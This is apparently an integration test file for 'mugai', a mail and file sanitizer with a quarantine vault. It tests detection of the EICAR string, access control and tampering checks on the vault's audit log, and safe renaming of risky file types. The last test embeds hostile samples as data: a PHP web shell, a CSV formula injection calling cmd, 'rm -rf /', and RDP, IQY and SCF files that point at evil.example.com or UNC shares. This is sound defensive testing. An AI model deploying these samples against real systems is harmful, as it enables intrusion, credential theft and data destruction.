// The mugai executable as a user runs it: exit codes, messages, files written.
#include <Poco/JSON/Parser.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include <algorithm>
#include <array>
#include <catch2/catch.hpp>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <utility>
#include <vector>

#include "src/smtp/service_config.h"
#include "support/test_support.h"
#include "support/vault_view.h"

namespace fs = std::filesystem;

namespace {

struct Run {
  int status;
  std::string out;  ///< stdout and stderr together
};

Run runMugai(const std::string& args) {
  std::string cmd = std::string(MUGAI_BINARY) + " " + args + " 2>&1";
  FILE* p = popen(cmd.c_str(), "r");
  REQUIRE(p);
  std::string out;
  std::array<char, 4096> buf;
  while (std::size_t n = fread(buf.data(), 1, buf.size(), p)) out.append(buf.data(), n);
  int st = pclose(p);
  return {WIFEXITED(st) ? WEXITSTATUS(st) : -1, out};
}

std::string q(const fs::path& p) { return "'" + p.string() + "'"; }

Poco::JSON::Object::Ptr json(const fs::path& p) {
  Poco::JSON::Parser parser;
  return parser.parse(mugai::test::readFile(p)).extract<Poco::JSON::Object::Ptr>();
}

}  // namespace

TEST_CASE("cli: help, version and usage errors", "[integration]") {
  auto help = runMugai("--help");
  REQUIRE(help.status == 0);
  REQUIRE(help.out.find("mugai mail IN.eml -o OUT.eml") != std::string::npos);
  REQUIRE(runMugai("--version").out.find("mugai ") == 0);
  auto bad = runMugai("mail");
  REQUIRE(bad.status == 1);
  REQUIRE(bad.out.find("Try 'mugai --help'") != std::string::npos);
  REQUIRE(runMugai("frobnicate x").status == 1);
  REQUIRE(runMugai("mail a.eml --colour red -o x").out.find("unknown option --colour") != std::string::npos);
  auto missing = runMugai("mail /nonexistent/in.eml -o /tmp/x.eml");
  REQUIRE(missing.status == 1);
  REQUIRE(missing.out.find("cannot read /nonexistent/in.eml") != std::string::npos);
}

TEST_CASE("cli: mail clean (0), sanitized (0), and the report's fields", "[integration]") {
  mugai::test::TempDir dir;
  auto in = dir.path() / "in.eml";
  mugai::test::writeFile(in, "From: a@example.com\r\nTo: b@city.example.lg.jp\r\nSubject: hi\r\n\r\nhello\r\n");
  auto r = runMugai("mail " + q(in) + " -o " + q(dir.path() / "out.eml") + " --report " + q(dir.path() / "r.json"));
  INFO(r.out);
  REQUIRE(r.status == 0);
  REQUIRE(fs::exists(dir.path() / "out.eml"));
  REQUIRE(json(dir.path() / "r.json")->getValue<std::string>("verdict") == "clean");

  std::string eicar = mugai::test::readFile(mugai::test::generatedDir() / "eicar.com");
  std::string b64 = "WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo=";
  REQUIRE(eicar.size() == 68);
  mugai::test::writeFile(in, "From: a@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
                             "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
                             "<p>hi</p>\r\n--b\r\nContent-Type: application/octet-stream; name=e.com\r\n"
                             "Content-Transfer-Encoding: base64\r\n\r\n" + b64 + "\r\n--b--\r\n");
  auto qdir = dir.path() / "quarantine";
  r = runMugai("mail " + q(in) + " -o " + q(dir.path() / "out.eml") + " --report " + q(dir.path() / "r.json") +
            " --quarantine " + q(qdir));
  INFO(r.out);
  REQUIRE(r.status == 0);
  auto rep = json(dir.path() / "r.json");
  REQUIRE(rep->getValue<std::string>("verdict") == "sanitized");
  auto dets = rep->getArray("detections");
  REQUIRE(dets->size() == 1);
  auto d = dets->getObject(0);
  REQUIRE(d->getValue<std::string>("filename") == "e.com");
  REQUIRE(d->has("part"));
  REQUIRE(d->getValue<std::string>("signature").find("EICAR") != std::string::npos);
  auto actions = rep->getArray("actions");
  bool removed = false;
  for (std::size_t i = 0; i < actions->size(); ++i) {
    auto a = actions->getObject(i);
    REQUIRE(a->has("part"));
    REQUIRE(a->has("filename"));
    REQUIRE(a->has("reason"));
    removed |= a->getValue<std::string>("action") == "removed";
  }
  REQUIRE(removed);
  std::string id = rep->getValue<std::string>("id");
  // --quarantine DIR, the old option, now means the vault sqlite:DIR/vault.db.
  const std::string url = mugai::test::stateVault(qdir.string());
  REQUIRE(mugai::test::vaultOriginal(url, id) == mugai::test::readFile(in));
  auto records = mugai::test::vaultRecords(url);
  REQUIRE(records.size() == 1);
  REQUIRE(records[0].reason == "av.infected");
}

TEST_CASE("cli: file kept (0), blocked (3), never overwrites", "[integration]") {
  mugai::test::TempDir dir;
  fs::create_directory(dir.path() / "out");
  auto in = dir.path() / "minutes.txt";
  mugai::test::writeFile(in, "minutes\n");
  auto out = q(dir.path() / "out");
  REQUIRE(runMugai("file " + q(in) + " -o " + out + " --quiet").status == 0);
  REQUIRE(runMugai("file " + q(in) + " -o " + out + " --quiet").status == 0);
  REQUIRE(fs::exists(dir.path() / "out" / "minutes.txt"));
  REQUIRE(fs::exists(dir.path() / "out" / "minutes-1.txt"));
  auto blocked = runMugai("file " + q(mugai::test::generatedDir() / "eicar.com") + " -o " + out + " --report " +
                       q(dir.path() / "r.json"));
  REQUIRE(blocked.status == 3);
  REQUIRE(json(dir.path() / "r.json")->getValue<std::string>("verdict") == "blocked");
  REQUIRE_FALSE(fs::exists(dir.path() / "out" / "eicar.com"));
  REQUIRE(runMugai("file " + q(in) + " -o " + q(dir.path() / "nope")).status == 1);
}

TEST_CASE("cli: rules check names file, line and key", "[integration]") {
  REQUIRE(runMugai("rules check").status == 0);
  auto shipped = runMugai("rules check " + q(mugai::test::sourceDir() / "rules" / "default.yaml"));
  INFO(shipped.out);
  REQUIRE(shipped.status == 0);
  REQUIRE(shipped.out.find("OK") != std::string::npos);
  mugai::test::TempDir dir;
  auto bad = dir.path() / "bad.yaml";
  mugai::test::writeFile(bad, "version: 1\nchains:\n  scan: [sanitizer.clamav_scan]\n  text_body: []\n"
                              "  html_body: []\nactions:\n  av.infected: pass\n");
  auto r = runMugai("rules check " + q(bad));
  REQUIRE(r.status == 1);
  REQUIRE(r.out.find(bad.string() + ":7: actions.av.infected") != std::string::npos);
  REQUIRE(runMugai("rules defaults").out.find("mime_nesting_limit = 20") != std::string::npos);
  REQUIRE(runMugai("rules sanitizers").out.find("sanitizer.html_to_text") != std::string::npos);
  REQUIRE(runMugai("rules reasons").out.find("av.infected") != std::string::npos);
}

TEST_CASE("cli: every service config key is also a serve option, --KEY VALUE over the file",
          "[integration]") {
  std::size_t n = 0;
  const mugai::smtp::ServiceKeyInfo* t = mugai::smtp::serviceKeyTable(&n);
  std::string args;
  for (std::size_t i = 0; i < n; ++i) {
    std::string option = t[i].name;
    std::replace(option.begin(), option.end(), '_', '-');
    args += " --" + option + " '" + std::string(t[i].example) + "'";
  }
  mugai::test::TempDir dir;
  auto conf = dir.path() / "mugai.cf";
  mugai::test::writeFile(conf, "listen = 127.0.0.1:2525\nrelay_tls = encrypt\n");
  auto r = runMugai("serve --config " + q(conf) + args + " --print-config");
  INFO(args << "\n" << r.out);
  REQUIRE(r.status == 0);
  for (std::size_t i = 0; i < n; ++i) {
    INFO(t[i].name);
    std::string example = t[i].example;
    if (t[i].list) {  // printed joined with ", "
      auto items = mugai::smtp::splitServiceList(example);
      example.clear();
      for (const auto& item : items) example += (example.empty() ? "" : ", ") + item;
    }
    CHECK(("\n" + r.out).find("\n" + std::string(t[i].name) + " = " + example + "\n") !=
          std::string::npos);
  }
  // The file's value stands where no option is given; an option wins over the file.
  r = runMugai("serve --config " + q(conf) + " --relay-tls may --print-config");
  CHECK(r.out.rfind("listen = 127.0.0.1:2525\n", 0) == 0);
  CHECK(r.out.find("\nrelay_tls = may\n") != std::string::npos);
  // A bad value names the option; a mistyped option is named with the nearest one.
  r = runMugai("serve --relay-tls sometimes --print-config");
  CHECK(r.status == 1);
  CHECK(r.out.find("mugai: --relay-tls 'sometimes': expected none, may or encrypt") != std::string::npos);
  r = runMugai("serve --nexthop 127.0.0.1:25");
  CHECK(r.status == 1);
  CHECK(r.out.find("unknown argument --nexthop (did you mean --next-hop?)") != std::string::npos);
  // A CA file that cannot be used stops the start, before anything listens.
  r = runMugai("serve --relay-tls encrypt --relay-tls-ca-file " + q(dir.path() / "missing-ca.pem"));
  CHECK(r.status == 1);
  CHECK(r.out.find("mugai: cannot start: relay_tls = encrypt with relay_tls_ca_file") != std::string::npos);
  // Checks across keys name where the values came from.
  r = runMugai("serve --inbox " + q(dir.path() / "in") + " --print-config");
  CHECK(r.status == 1);
  CHECK(r.out.find("mugai: command line: filedrop_inbox and filedrop_outbox go together") !=
        std::string::npos);
}

TEST_CASE(
    "cli: serve refuses a bad --listen, --next-hop or config address, naming option and value",
    "[integration]") {
  const std::vector<std::pair<std::string, std::string>> bad = {
      {"--listen 127.0.0.1:abc",
       "--listen '127.0.0.1:abc': the port 'abc' is not a number from 1 to 65535"},
      {"--listen 127.0.0.1:99999", "--listen '127.0.0.1:99999': the port '99999' is not a number"},
      {"--listen 127.0.0.1:0", "--listen '127.0.0.1:0': the port '0' is not a number"},
      {"--listen 127.0.0.1", "--listen '127.0.0.1': no port"},
      {"--listen :10025", "--listen ':10025': no host"},
      {"--listen ::1:10025", "--listen '::1:10025': an IPv6 address goes in brackets"},
      {"--listen ''", "--listen needs a value"},
      {"--next-hop 127.0.0.1:abc", "--next-hop '127.0.0.1:abc': the port 'abc'"},
      {"--next-hop 10.0.0.1:", "--next-hop '10.0.0.1:': the port ''"},
  };
  for (const auto& [args, message] : bad) {
    for (const char* print : {"", " --print-config"}) {
      auto r = runMugai("serve " + args + print);
      INFO(args << print << "\n" << r.out);
      CHECK(r.status == 1);
      CHECK(r.out.find("mugai: " + message) != std::string::npos);
      CHECK(r.out.find("listen = ") == std::string::npos);  // nothing printed as if it were fine
    }
  }
  mugai::test::TempDir dir;
  auto conf = dir.path() / "mugai.cf";
  mugai::test::writeFile(conf,
                         "listen = 127.0.0.1:abc\nnext_hop = [::1]:99999\nquarantine = /tmp/q\n");
  auto r = runMugai("serve --print-config --config " + q(conf));
  INFO(r.out);
  CHECK(r.status == 1);
  CHECK(r.out.find(conf.string() + ": listen = '127.0.0.1:abc': the port 'abc'") !=
        std::string::npos);
  CHECK(r.out.find(conf.string() + ": next_hop = '[::1]:99999': the port '99999'") !=
        std::string::npos);
  CHECK(
      r.out.find(conf.string() + ":3: unknown key 'quarantine': did you mean 'quarantine_dir'?") !=
      std::string::npos);
  CHECK(r.out.find("listen = 127") == std::string::npos);
  // Good values, IPv6 in brackets, are printed as given.
  auto good = runMugai("serve --print-config --listen [::1]:2525 --next-hop mx.example.jp:25");
  CHECK(good.status == 0);
  CHECK(good.out.find("listen = [::1]:2525\nnext_hop = mx.example.jp:25\n") != std::string::npos);
}

TEST_CASE("cli: serve --print-config --markdown writes docs/configuration.md, and what it prints "
          "loads again", "[integration]") {
  auto md = runMugai("serve --print-config --markdown");
  CHECK(md.status == 0);
  CHECK(md.out == mugai::test::readFile(mugai::test::sourceDir() / "docs" / "configuration.md"));
  // install.sh writes --print-config as mugai.conf: that file is read back to the same values.
  mugai::test::TempDir dir;
  auto conf = dir.path() / "mugai.conf";
  auto printed = runMugai("serve --print-config --listen 127.0.0.1:2626 --state-dir " + q(dir.path()));
  REQUIRE(printed.status == 0);
  mugai::test::writeFile(conf, printed.out);
  auto again = runMugai("serve --print-config --config " + q(conf));
  INFO(again.out);
  CHECK(again.status == 0);
  CHECK(again.out == printed.out);
}

TEST_CASE("cli: vault import, list, show, original (audited), hold, purge, audit verify", "[integration]") {
  mugai::test::TempDir dir;
  auto in = dir.path() / "in.eml";
  const std::string b64 =
      "WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo=";
  // A subject that tries to reorder the terminal line (U+202E) and to look like markup.
  mugai::test::writeFile(in, "From: a@example.com\r\nSubject: =?UTF-8?B?PHNjcmlwdD7igK5leGU=?=\r\n"
                             "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
                             "--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b\r\n"
                             "Content-Type: application/octet-stream; name=e.com\r\n"
                             "Content-Transfer-Encoding: base64\r\n\r\n" + b64 + "\r\n--b--\r\n");
  auto qdir = dir.path() / "quarantine";
  auto r = runMugai("mail " + q(in) + " -o " + q(dir.path() / "out.eml") + " --report " +
                    q(dir.path() / "r.json") + " --rcpt staff@city.example.lg.jp");
  REQUIRE(r.status == 0);
  const std::string id = json(dir.path() / "r.json")->getValue<std::string>("id");
  // A quarantine folder as releases before the vault left it: ID.orig + ID.json.
  fs::create_directories(qdir);
  mugai::test::writeFile(qdir / (id + ".orig"), mugai::test::readFile(in));
  mugai::test::writeFile(qdir / (id + ".json"), mugai::test::readFile(dir.path() / "r.json"));
  const std::string vault = " --vault " + q("sqlite:" + (dir.path() / "v.db").string()) + " ";

  auto imp = runMugai("vault" + vault + "import " + q(qdir));
  INFO(imp.out);
  REQUIRE(imp.status == 0);
  REQUIRE(imp.out.find("imported 1 record") != std::string::npos);
  // Importing again adds nothing.
  REQUIRE(runMugai("vault" + vault + "import " + q(qdir)).out.find("imported 0 record(s)") != std::string::npos);

  auto list = runMugai("vault" + vault + "list --recipient STAFF@city.example.lg.jp");
  INFO(list.out);
  REQUIRE(list.status == 0);
  REQUIRE(list.out.find(id) != std::string::npos);
  REQUIRE(list.out.find("av.infected") != std::string::npos);
  REQUIRE(list.out.find("<U+202E>") != std::string::npos);
  REQUIRE(list.out.find("\xE2\x80\xAE") == std::string::npos);  // the raw override never reaches the terminal
  REQUIRE(runMugai("vault" + vault + "list --recipient other@city.example.lg.jp").out.find(id) == std::string::npos);

  auto show = runMugai("vault" + vault + "--json show " + id);
  REQUIRE(show.status == 0);
  Poco::JSON::Parser parser;
  auto o = parser.parse(show.out).extract<Poco::JSON::Object::Ptr>();
  REQUIRE(o->getValue<std::string>("reason") == "av.infected");
  REQUIRE(o->getObject("report")->getValue<std::string>("id") == id);

  auto orig = dir.path() / "orig.eml";
  REQUIRE(runMugai("vault" + vault + "original " + id + " -o " + q(orig)).status == 0);
  REQUIRE(mugai::test::readFile(orig) == mugai::test::readFile(qdir / (id + ".orig")));
  REQUIRE(runMugai("vault" + vault + "original " + id + " -o " + q(orig)).status == 1);  // never replaced

  REQUIRE(runMugai("vault" + vault + "hold " + id).status == 0);
  REQUIRE(runMugai("vault" + vault + "hold no-such-id").status == 1);
  auto purge = runMugai("vault" + vault + "purge --dry-run");
  REQUIRE(purge.status == 0);
  auto audit = runMugai("vault" + vault + "audit export");
  REQUIRE(audit.out.find("\"action\":\"download\"") != std::string::npos);
  REQUIRE(audit.out.find("\"action\":\"hold\"") != std::string::npos);
  auto ok = runMugai("vault" + vault + "audit verify");
  INFO(ok.out);
  REQUIRE(ok.status == 0);

  // An auditor's check after someone edited a row by hand.
  REQUIRE(std::system(("sqlite3 " + q(dir.path() / "v.db") +
                       " \"UPDATE audit SET actor = 'nobody' WHERE action = 'download'\" 2>/dev/null || "
                       "python3 -c \"import sqlite3; c = sqlite3.connect('" + (dir.path() / "v.db").string() +
                       "'); c.execute(\\\"UPDATE audit SET actor = 'nobody' WHERE action = 'download'\\\"); c.commit()\"")
                          .c_str()) == 0);
  auto broken = runMugai("vault" + vault + "audit verify");
  INFO(broken.out);
  REQUIRE(broken.status == 2);
  REQUIRE(broken.out.find("BROKEN") != std::string::npos);
  REQUIRE(runMugai("vault" + vault + "frobnicate").status == 1);

  // Options by what they take: a number, a date, a value; each wrong one named.
  auto paged = runMugai("vault" + vault + "list --limit 5 --offset 0 --since 2000-01-01 --until 2999-12-31");
  INFO(paged.out);
  REQUIRE(paged.status == 0);
  REQUIRE(paged.out.find(id) != std::string::npos);
  REQUIRE(runMugai("vault" + vault + "list --until 2000-01-01").out.find(id) == std::string::npos);
  for (const auto& [args, says] : std::vector<std::pair<std::string, std::string>>{
           {"list --limit ten", "--limit needs a number"},
           {"list --offset 1234567890", "--offset needs a number"},
           {"list --since 2026/12/07", "--since needs a date YYYY-MM-DD, not '2026/12/07'"},
           {"list --reason", "--reason needs a value"},
           {"request " + id + " --request x", "--request needs a number"},
           {"list --colour red", "unknown option --colour"},
           {"--json", "which command?"}}) {
    auto r = runMugai("vault" + vault + args);
    INFO(args << "\n" << r.out);
    CHECK(r.status == 1);
    CHECK(r.out.find("mugai vault: " + says) != std::string::npos);
  }
}

TEST_CASE("cli: vault request, approval by the superior, refusals audited (上長承認)", "[integration]") {
  mugai::test::TempDir dir;
  // Rules whose vault section names the example directory (tanaka -> somu, approver sato).
  std::string rules = mugai::test::readFile(mugai::test::sourceDir() / "rules" / "default.yaml");
  const std::string marker = "  # directory: directory.yaml";
  auto at = rules.find(marker);
  REQUIRE(at != std::string::npos);
  rules.replace(at, marker.size(), "  directory: directory.yaml");
  // The copy lives elsewhere: its signatures are the checkout's.
  const std::string sig_line = "signatures: [signatures]";
  auto sp = rules.find(sig_line);
  REQUIRE(sp != std::string::npos);
  rules.replace(sp, sig_line.size(),
                "signatures: [" + (mugai::test::sourceDir() / "rules" / "signatures").string() + "]");
  fs::copy_file(mugai::test::sourceDir() / "rules" / "directory.example.yaml", dir.path() / "directory.yaml");
  mugai::test::writeFile(dir.path() / "rules.yaml", rules);
  auto check = runMugai("rules check " + q(dir.path() / "rules.yaml"));
  INFO(check.out);
  REQUIRE(check.status == 0);

  auto in = dir.path() / "in.eml";
  const std::string b64 =
      "WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo=";
  mugai::test::writeFile(in, "From: a@example.com\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
                             "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
                             "Content-Type: text/plain\r\n\r\nhi\r\n--b\r\nContent-Type: application/x-msdownload; name=tool.exe\r\n"
                             "Content-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA==\r\n"
                             "--b\r\nContent-Type: application/octet-stream; name=e.com\r\n"
                             "Content-Transfer-Encoding: base64\r\n\r\n" + b64 + "\r\n--b--\r\n");
  auto qdir = dir.path() / "quarantine";
  // One message with a removed .exe only (tier approval), one with EICAR too (tier admin).
  std::string exe_only = mugai::test::readFile(in);
  exe_only.erase(exe_only.find("--b\r\nContent-Type: application/octet-stream; name=e.com"),
                 std::string::npos);
  exe_only += "--b--\r\n";
  mugai::test::writeFile(dir.path() / "exe.eml", exe_only);
  // `mugai mail --vault` records the originals through the disposition layer, as serve does.
  const std::string url = "sqlite:" + (dir.path() / "v.db").string();
  REQUIRE(runMugai("mail " + q(dir.path() / "exe.eml") + " -o " + q(dir.path() / "o1.eml") + " --report " +
                   q(dir.path() / "r1.json") + " --vault " + q(url) + " --rcpt tanaka@city.example.lg.jp").status == 0);
  REQUIRE(runMugai("mail " + q(in) + " -o " + q(dir.path() / "o2.eml") + " --report " + q(dir.path() / "r2.json") +
                   " --vault " + q(url) + " --rcpt tanaka@city.example.lg.jp").status == 0);
  const std::string exe_id = json(dir.path() / "r1.json")->getValue<std::string>("id");
  const std::string av_id = json(dir.path() / "r2.json")->getValue<std::string>("id");
  const std::string v = " --vault " + q(url) + " --rules " + q(dir.path() / "rules.yaml") + " ";

  // Staff sees only their own; another member of staff gets a refusal for the same id.
  REQUIRE(runMugai("vault" + v + "--by tanaka list").out.find(exe_id) != std::string::npos);
  REQUIRE(runMugai("vault" + v + "--by suzuki list").out.find(exe_id) == std::string::npos);
  auto peek = runMugai("vault" + v + "--by suzuki show " + exe_id);
  REQUIRE(peek.status == 3);
  REQUIRE(peek.out.find("権限がありません") != std::string::npos);
  REQUIRE(runMugai("vault" + v + "--by suzuki request " + exe_id + " --reason mine").status == 3);

  // The EICAR record is admin-tier: staff may not even ask.
  auto av = runMugai("vault" + v + "--by tanaka request " + av_id + " --reason need");
  INFO(av.out);
  REQUIRE(av.status == 3);
  REQUIRE(av.out.find("security team") != std::string::npos);

  auto req = runMugai("vault" + v + "--by tanaka request " + exe_id + " --reason 'needed for the contract'");
  INFO(req.out);
  REQUIRE(req.status == 0);
  REQUIRE(req.out.find("waiting for approval by sato") != std::string::npos);
  REQUIRE(runMugai("vault" + v + "--by tanaka approve " + exe_id).status == 3);  // not their own
  REQUIRE(runMugai("vault" + v + "--by yamada approve " + exe_id).status == 3);  // another group
  REQUIRE(runMugai("vault" + v + "--by tanaka hold " + exe_id).status == 3);     // admin only
  auto ok = runMugai("vault" + v + "--by sato approve " + exe_id);
  INFO(ok.out);
  REQUIRE(ok.status == 0);
  REQUIRE(ok.out.find("approved") != std::string::npos);
  REQUIRE(runMugai("vault" + v + "--by sato approve " + exe_id).status == 1);  // nothing pending any more
  auto audit = runMugai("vault" + v + "audit export").out;
  REQUIRE(audit.find("\"actor\":\"tanaka\"") != std::string::npos);
  REQUIRE(audit.find("\"action\":\"approve\"") != std::string::npos);
  std::size_t refusals = 0;
  for (std::size_t p = 0; (p = audit.find("\"action\":\"refused\"", p)) != std::string::npos; ++p) ++refusals;
  CHECK(refusals == 6);  // show, request (suzuki), request (admin tier), approve x2, hold
  REQUIRE(runMugai("vault" + v + "audit verify").status == 0);
}

TEST_CASE("cli: -o never replaces a device, FIFO or symbolic link, -o - is standard output", "[integration]") {
  // Issue 10 (the command line): `mugai mail IN -o /dev/null` run as root renamed a temporary
  // file over the device node. The variants here use nodes of our own, never the system's.
  mugai::test::TempDir dir;
  auto in = dir.path() / "in.eml";
  mugai::test::writeFile(in, "From: a@example.com\r\nTo: b@city.example.lg.jp\r\nSubject: hi\r\n\r\nhello fifo\r\n");
  auto isChar = [](const fs::path& p) { return fs::is_character_file(fs::symlink_status(p)); };
  REQUIRE(isChar("/dev/null"));

  SECTION("a symbolic link to /dev/null is written through; the link and the device stay") {
    auto link = dir.path() / "null-link";
    fs::create_symlink("/dev/null", link);
    auto r = runMugai("mail " + q(in) + " -o " + q(link) + " --report " + q(link));
    INFO(r.out);
    REQUIRE(r.status == 0);
    REQUIRE(fs::is_symlink(fs::symlink_status(link)));
    REQUIRE(isChar("/dev/null"));
  }
  SECTION("a FIFO is written to, and stays a FIFO") {
    auto fifo = dir.path() / "out.fifo";
    REQUIRE(mkfifo(fifo.c_str(), 0600) == 0);
    auto captured = dir.path() / "captured.eml";
    std::string cmd = "cat " + q(fifo) + " > " + q(captured) + " & " + std::string(MUGAI_BINARY) + " mail " +
                      q(in) + " -o " + q(fifo) + " --quiet; st=$?; wait; exit $st";
    int st = std::system(("sh -c \"" + cmd + "\"").c_str());
    REQUIRE(WIFEXITED(st));
    REQUIRE(WEXITSTATUS(st) == 0);
    REQUIRE(fs::is_fifo(fs::symlink_status(fifo)));
    REQUIRE(mugai::test::readFile(captured).find("hello fifo") != std::string::npos);
  }
  SECTION("a symbolic link to a regular file is refused, the file untouched") {
    auto target = dir.path() / "target.eml";
    mugai::test::writeFile(target, "precious");
    auto link = dir.path() / "link.eml";
    fs::create_symlink(target, link);
    auto r = runMugai("mail " + q(in) + " -o " + q(link));
    REQUIRE(r.status == 1);
    REQUIRE(r.out.find("symbolic link") != std::string::npos);
    REQUIRE(fs::is_symlink(fs::symlink_status(link)));
    REQUIRE(mugai::test::readFile(target) == "precious");
  }
  SECTION("-o - writes the message to standard output") {
    auto r = runMugai("mail " + q(in) + " -o - --quiet");
    INFO(r.out);
    REQUIRE(r.status == 0);
    REQUIRE(r.out.find("Subject: hi") != std::string::npos);
    REQUIRE(r.out.find("hello fifo") != std::string::npos);
    REQUIRE_FALSE(fs::exists("-"));
  }

}

TEST_CASE("cli: mugai file on 48 text-like extensions delivers a name that opens as text, or nothing", "[integration]") {
  // Issue 10, class 1. Windows' own file associations are the reference: each of these opens in
  // something other than a text editor (or runs), so a file kept as text must arrive as *.txt
  // (or under an extension Notepad/Excel-as-CSV open), or not at all.
  struct Case {
    const char* ext;
    std::string data;
  };
  const std::string words = "meeting notes for the budget review\n";
  std::vector<Case> cases = {
      {"rdp", "full address:s:evil.example.com\ndrivestoredirect:s:*\n"},
      {"iqy", "WEB\n1\nhttp://evil.example.com/q\n"},
      {"theme", "[Control Panel\\Desktop]\nWallpaper=\\\\evil\\share\\a.bmp\n"},
      {"py", "import os\nos.system('calc')\n"},
      {"pyw", "import os\nos.system('calc')\n"},
      {"csv", "a,=cmd|' /C calc'!A0\n"},
      {"tsv", "a\t=1+1\n"},
      {"slk", "ID;P\nC;Y1;X1;K1\nE\n"},
      {"url", "[InternetShortcut]\nURL=file://evil/x.exe\n"},
      {"website", "[InternetShortcut]\nURL=http://evil.example.com/\n"},
      {"ps1", "Start-Process calc\n"},
      {"psm1", "function x { Start-Process calc }\n"},
      {"vbs", "CreateObject(\"WScript.Shell\").Run \"calc\"\n"},
      {"js", "new ActiveXObject('WScript.Shell').Run('calc');\n"},
      {"jse", words},
      {"wsf", "<job><script language=\"VBScript\">MsgBox 1</script></job>\n"},
      {"hta", "<hta:application/><script>alert(1)</script>\n"},
      {"bat", "@echo off\ncalc.exe\n"},
      {"cmd", "calc.exe\n"},
      {"reg", "Windows Registry Editor Version 5.00\n[HKEY_CURRENT_USER\\x]\n"},
      {"inf", "[Version]\nSignature=\"$CHICAGO$\"\n"},
      {"ini", "[section]\nkey=value\n"},
      {"scf", "[Shell]\nCommand=2\nIconFile=\\\\evil\\share\\icon.ico\n"},
      {"lnk", words},
      {"xml", "<?xml version=\"1.0\"?><a>hi</a>\n"},
      {"svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>\n"},
      {"htm", "<p>hi</p>\n"},
      {"html", "<html><body onload=\"alert(1)\">hi</body></html>\n"},
      {"mht", "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\n\n<p>x</p>\n--b--\n"},
      {"eml", "From: a@example.com\nSubject: hi\n\nbody\n"},
      {"ics", "BEGIN:VCALENDAR\nVERSION:2.0\nBEGIN:VEVENT\nSUMMARY:x\nEND:VEVENT\nEND:VCALENDAR\n"},
      {"vcf", "BEGIN:VCARD\nVERSION:3.0\nFN:Taro\nEND:VCARD\n"},
      {"json", "{\"a\": 1}\n"},
      {"yaml", "a: 1\n"},
      {"log", "12:00 started\n"},
      {"md", "# Title\n\ntext\n"},
      {"txt", words},
      {"sct", "<scriptlet><script>x</script></scriptlet>\n"},
      {"wsc", "<component><script>x</script></component>\n"},
      {"xsl", "<xsl:stylesheet version=\"1.0\"/>\n"},
      {"vb", "MsgBox 1\n"},
      {"ws", words},
      {"sh", "#!/bin/sh\nrm -rf /\n"},
      {"php", "<?php system($_GET['c']); ?>\n"},
      {"settingcontent-ms", words},
      {"searchconnector-ms", "<searchConnectorDescription/>\n"},
      {"desktop", "[Desktop Entry]\nExec=calc\n"},
      {"config", "<configuration/>\n"},
  };
  REQUIRE(cases.size() >= 40);
  const std::vector<std::string> opens_as_text = {"txt", "csv", "tsv", "log", "json", "yaml", "ini"};
  mugai::test::TempDir dir;
  for (const auto& c : cases) {
    auto in = dir.path() / (std::string("sample.") + c.ext);
    auto out = dir.path() / (std::string("out-") + c.ext);
    fs::create_directory(out);
    mugai::test::writeFile(in, c.data);
    auto r = runMugai("file " + q(in) + " -o " + q(out) + " --report " + q(dir.path() / "r.json"));
    INFO(c.ext << ": " << r.out);
    REQUIRE((r.status == 0 || r.status == 3));
    std::vector<fs::path> written;
    for (const auto& e : fs::directory_iterator(out)) written.push_back(e.path());
    if (written.empty()) continue;  // removed or blocked
    REQUIRE(written.size() == 1);
    std::string ext = written[0].extension().string().substr(1);
    auto type = json(dir.path() / "r.json");
    bool text_ok = std::find(opens_as_text.begin(), opens_as_text.end(), ext) != opens_as_text.end();
    // Calendars and contacts keep their names for the ICS/VCF rules (issue 10, class 6).
    bool own_type = (ext == "ics" && c.data.find("VCALENDAR") != std::string::npos) ||
                    (ext == "vcf" && c.data.find("VCARD") != std::string::npos);
    INFO("delivered as " << written[0].filename());
    CHECK((text_ok || own_type));
  }
}
